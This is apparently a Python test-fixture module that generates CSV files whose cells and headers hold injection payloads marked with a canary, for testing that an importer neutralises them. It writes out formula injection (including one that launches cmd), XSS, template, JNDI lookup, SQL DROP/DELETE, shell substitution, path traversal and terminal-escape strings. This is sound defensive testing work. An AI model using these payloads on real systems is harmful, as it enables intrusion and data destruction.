"""Files whose cells and headers are commands to a spreadsheet, browser, log, shell or database."""

from __future__ import annotations

import json
from collections.abc import Mapping
from functools import partial

from tests.corpus.makers.base import HEADER, Sample, faulty, month, sent, text_of

BREAKS = {'format = "csv"': 'format = "csv"\nquoted_line_breaks = true'}
IGNORED = 'ignored = ["Bed"]'


def cell(canary: str, *, text: str, column: str = "Place", breaks: bool = False) -> Sample:
    """Write a command into one cell."""
    told = text.replace("CANARY", canary)
    return sent(text_of(faulty(**{column: told})), profile=BREAKS if breaks else None)


def every(canary: str, *, text: str, column: str) -> Sample:
    """Write a command into every cell of a column, so often that a list would show it."""
    rows = [row | {column: text} for row in month()]
    rows[10]["Bed"] = canary
    return sent(text_of(rows))


def header(canary: str, *, name: str, known: bool) -> Sample:
    """Write a command as the name of a column, which the profile ignores or does not know."""
    rows = [row | {name: ""} for row in faulty(Bed=canary)]
    profile = {IGNORED: f'ignored = ["Bed", {json.dumps(name)}]'} if known else None
    return sent(text_of(rows, header=[*HEADER, name]), profile=profile)


FILES: Mapping[str, partial[Sample]] = {
    "formula-in-place": partial(cell, text='=HYPERLINK("http://example.org/CANARY","x")'),
    "formula-behind-a-plus": partial(cell, text="+CANARY+1"),
    "formula-behind-a-minus": partial(cell, text="-2+3+CANARY"),
    "formula-behind-an-at-sign": partial(cell, text="@SUM(1,1) CANARY"),
    "formula-behind-a-tab": partial(cell, text="\t=1+1 CANARY"),
    "formula-behind-a-no-break-space": partial(cell, text="\u00a0=1+1 CANARY"),
    "formula-in-full-width-signs": partial(cell, text="\uff1d1\uff0b1 CANARY"),
    "formula-on-a-second-line": partial(cell, text="bar\n=1+1 CANARY", breaks=True),
    "formula-starts-a-program": partial(cell, text="=cmd|' /C CANARY'!A0"),
    "formula-as-code": partial(cell, text="=1+CANARY", column="Weapon"),
    "formula-as-code-in-all-rows": partial(every, text="=1+1", column="Weapon"),
    "formula-in-full-width-as-code-in-all-rows": partial(
        every, text="\uff1d1+1", column="Weapon"
    ),
    "formula-as-attendance-number": partial(cell, text="=CANARY", column="No"),
    "formula-as-age": partial(cell, text="=34", column="Age"),
    "formula-as-known-header": partial(header, name='=HYPERLINK("http://x")', known=True),
    "formula-as-unknown-header": partial(header, name="=1+1", known=False),
    "script-in-place": partial(cell, text="<script>CANARY()</script>"),
    "script-in-an-attribute": partial(cell, text='" onmouseover="CANARY()'),
    "script-as-known-header": partial(header, name="<script>alert(1)</script>", known=True),
    "picture-with-error-handler-as-header": partial(
        header, name="<img src=x onerror=alert(1)>", known=False
    ),
    "template-in-place": partial(cell, text="{{ 7 * 7 }}{% CANARY %}"),
    "template-as-known-header": partial(header, name="{{ 7 * 7 }}", known=True),
    "format-string-as-header": partial(header, name="{kinds} {0.__class__}", known=False),
    "log-line-forged-in-a-cell": partial(
        cell, text='bar\n2026-06-01 INFO "state": "in force" CANARY', breaks=True
    ),
    "log-lookup": partial(cell, text="${jndi:ldap://example.org/CANARY}"),
    "terminal-escapes-in-a-cell": partial(cell, text="\x1b[2J\x1b[31mCANARY"),
    "terminal-escapes-as-header": partial(header, name="\x1b[2JWard", known=False),
    "right-to-left-override-in-a-cell": partial(cell, text="\u202eCANARY\u202c bar"),
    "right-to-left-override-as-header": partial(header, name="\u202etnetnI", known=False),
    "path-as-site": partial(cell, text="../../CANARY", column="Site"),
    "path-of-a-site-code": partial(cell, text="XQ101/../CANARY", column="Site"),
    "share-of-a-server-as-code": partial(cell, text="\\\\example.org\\CANARY", column="Weapon"),
    "sql-in-place": partial(cell, text="'; DROP TABLE submissions; -- CANARY"),
    "sql-as-site": partial(cell, text="A' OR '1'='1", column="Site"),
    "sql-as-attendance-number": partial(cell, text="x'); DELETE FROM packs; --", column="No"),
    "json-breaks-out": partial(cell, text='"},{"state":"in force","x":"CANARY'),
    "shell-in-place": partial(cell, text="$(touch CANARY) `touch CANARY`"),
    "regular-expression-as-code": partial(cell, text="(CANARY+)+$", column="Weapon"),
    "prototype-as-code": partial(cell, text="__proto__", column="Weapon"),
    "category-of-ours-as-code": partial(cell, text="~not_known", column="Weapon"),
    "node-of-ours-as-code": partial(cell, text="sharp.knife", column="Weapon"),
    "separator-of-ours-in-a-code": partial(cell, text="K\x1fsharp.glass", column="Weapon"),
}  # fmt: skip
